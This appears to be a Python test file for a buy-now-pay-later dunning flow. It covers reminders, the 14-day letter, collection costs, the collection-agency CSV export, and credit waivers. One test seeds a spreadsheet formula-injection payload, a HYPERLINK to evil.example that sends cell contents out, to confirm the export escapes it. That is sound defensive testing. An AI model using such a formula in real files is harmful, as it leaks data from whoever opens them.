"""The default consumer policy level by level, end to end through the API: reminder, 14-day
letter, collection costs only once the letter's e-mail left, and the hand-over exported once
(not when it was paid meanwhile); a proposed payment holds the reminder, a full credit waives
the costs."""
from __future__ import annotations

from datetime import date, timedelta

from sqlalchemy import select

from bnpl.dunning.jobs import run_dunning
from bnpl.dunning.models import DunningStep
from bnpl.notifications.models import OutboxMessage
from tests.payments.flows import invoice, ship
from tests.dunning.passes import daily


def test_an_unpaid_invoice_walks_the_default_consumer_levels(api, services):
    inv = ship(api)
    due = date.fromisoformat(inv["due_date"])

    def run(day):
        return daily(services, day)

    assert run(due + timedelta(days=2)).taken == {}
    assert run(due + timedelta(days=3)).taken == {"reminder": 1}
    assert run(due + timedelta(days=3)).taken == {}
    assert run(due + timedelta(days=14)).taken == {"fourteen_day_letter": 1}
    with services.sessionmaker() as session:
        letter = session.scalar(select(DunningStep).where(DunningStep.level == 2))
    assert run(letter.deadline).taken == {}
    assert run(letter.deadline + timedelta(days=1)).taken == {"collection_costs": 1}
    after = invoice(api, inv["id"])
    assert after["balance"] > inv["total"]
    with services.sessionmaker() as session:
        kinds = [m.kind for m in session.scalars(select(OutboxMessage).where(
            OutboxMessage.channel == "email", OutboxMessage.kind.like("dunning_%")))]
    assert sorted(kinds) == ["dunning_costs", "dunning_letter", "dunning_reminder"]  # each once (one clock instant)


def test_the_hand_over_is_exported_once_with_what_the_agency_needs(api, services, tmp_path, monkeypatch):
    import csv

    from click.testing import CliRunner

    from bnpl.cli import main

    inv = ship(api)
    due = date.fromisoformat(inv["due_date"])
    for day in range(0, 80):  # the scheduler's daily pass, every day for 80 days
        daily(services, due + timedelta(days=day))
    after = invoice(api, inv["id"])
    assert after["dunning_level"] == 4
    monkeypatch.setattr("bnpl.cli._services", lambda: services)
    out = tmp_path / "handover.csv"

    first = CliRunner().invoke(main, ["dunning", "export-handovers", "--test", "-o", str(out)])
    [row] = list(csv.DictReader(out.open()))
    second = CliRunner().invoke(main, ["dunning", "export-handovers", "--test", "-o", str(out)])

    assert first.exit_code == 0 and "1 hand-over(s)" in first.output, first.output
    assert row["invoice_number"] == inv["number"] and row["letter_deadline"] and row["reminder_sent_on"]
    assert int(row["balance"]) == after["balance"] == int(row["principal"]) + int(row["collection_costs"]) + int(
        row["interest"])
    assert int(row["collection_costs"]) == 4000  # WIK minimum: 15 % of a small principal is less
    assert "0 hand-over(s)" in second.output and list(csv.DictReader(out.open())) == []


def test_the_hand_over_csv_is_safe_to_open_in_a_spreadsheet(api, services, tmp_path, monkeypatch):
    import csv

    from click.testing import CliRunner

    from bnpl.cli import main
    from tests import factories

    formula = '=HYPERLINK("https://evil.example/?"&A1,"Claim your refund")'
    inv = ship(api, consumer={**factories.consumer(), "name": formula},
               billing_address={**factories.address(), "street": "@SUM(1+1)", "city": "-Utrecht+1"})
    due = date.fromisoformat(inv["due_date"])
    for day in range(0, 80):
        daily(services, due + timedelta(days=day))
    monkeypatch.setattr("bnpl.cli._services", lambda: services)
    out = tmp_path / "handover.csv"
    assert CliRunner().invoke(main, ["dunning", "export-handovers", "--test", "-o", str(out)]).exit_code == 0
    [row] = list(csv.DictReader(out.open()))
    assert row["name"] == "'" + formula
    assert row["street"] == "'@SUM(1+1)" and row["city"] == "'-Utrecht+1"
    assert int(row["balance"]) > 0  # numbers stay numbers


def _to_costs(api, services, **order):
    inv = ship(api, **order) if order else ship(api)
    due = date.fromisoformat(inv["due_date"])
    for day in range(31):
        daily(services, due + timedelta(days=day))
    assert invoice(api, inv["id"])["dunning_level"] == 3
    return inv, due


def test_a_letter_whose_email_never_left_is_not_followed_by_costs(api, services):
    inv = ship(api)
    due = date.fromisoformat(inv["due_date"])
    for day in range(60):  # the passes run, but the outbox is never delivered
        run_dunning(services, as_of=due + timedelta(days=day), stale_statements="warn")

    after = invoice(api, inv["id"])
    assert (after["dunning_level"], after["fees"], after["balance"]) == (2, 0, inv["total"])


def test_no_reminder_while_a_received_payment_waits_to_be_confirmed(api, services):
    from bnpl.payments import service as payments
    from bnpl.uow import unit_of_work
    from tests.payments import camt_files as files

    inv = ship(api)
    with unit_of_work(services) as uow:  # same amount and name, no reference: only proposed
        payments.import_statement(uow, data=files.statement(files.payment(inv["total"], text="bestelling")))

    due = date.fromisoformat(inv["due_date"])
    assert daily(services, due + timedelta(days=3)).taken == {}


def test_a_paid_hand_over_is_not_exported_to_the_agency(api, services):
    from bnpl.dunning.service import export_handovers
    from bnpl.invoices import ledger as invoice_ledger
    from bnpl.tenancy import Scope
    from bnpl.uow import unit_of_work

    inv, due = _to_costs(api, services)
    for day in range(31, 50):
        daily(services, due + timedelta(days=day))
    owed = invoice(api, inv["id"])
    assert owed["dunning_level"] == 4
    with unit_of_work(services) as uow:  # paid after the hand-over was decided, before the export
        invoice_ledger.apply_payment(uow, scope=Scope(api.merchant_id, False), invoice_id=inv["id"], payment_id="pay_late",
                                     method="bank_transfer", amount=owed["balance"], paid_on=due + timedelta(days=50))
    with unit_of_work(services) as uow:
        assert export_handovers(uow, livemode=False) == []


def test_crediting_everything_also_waives_the_costs_and_interest(api, services):
    from tests import factories
    from tests.dunning.test_run import ALL_LINES, ret, ship_order

    order, shipped = ship_order(api, lines=factories.three_lines())
    due = date.fromisoformat(shipped["due_date"])
    for day in range(31):
        daily(services, due + timedelta(days=day))
    assert invoice(api, shipped["id"])["fees"] > 0

    ret(api, order["id"], ALL_LINES, status="received")

    after = invoice(api, shipped["id"])
    assert (after["status"], after["balance"], after["fees"], after["interest"]) == ("credited", 0, 0, 0)
    assert {c["waiver_reason"] for c in after["charges"]} == {"invoice fully credited"}
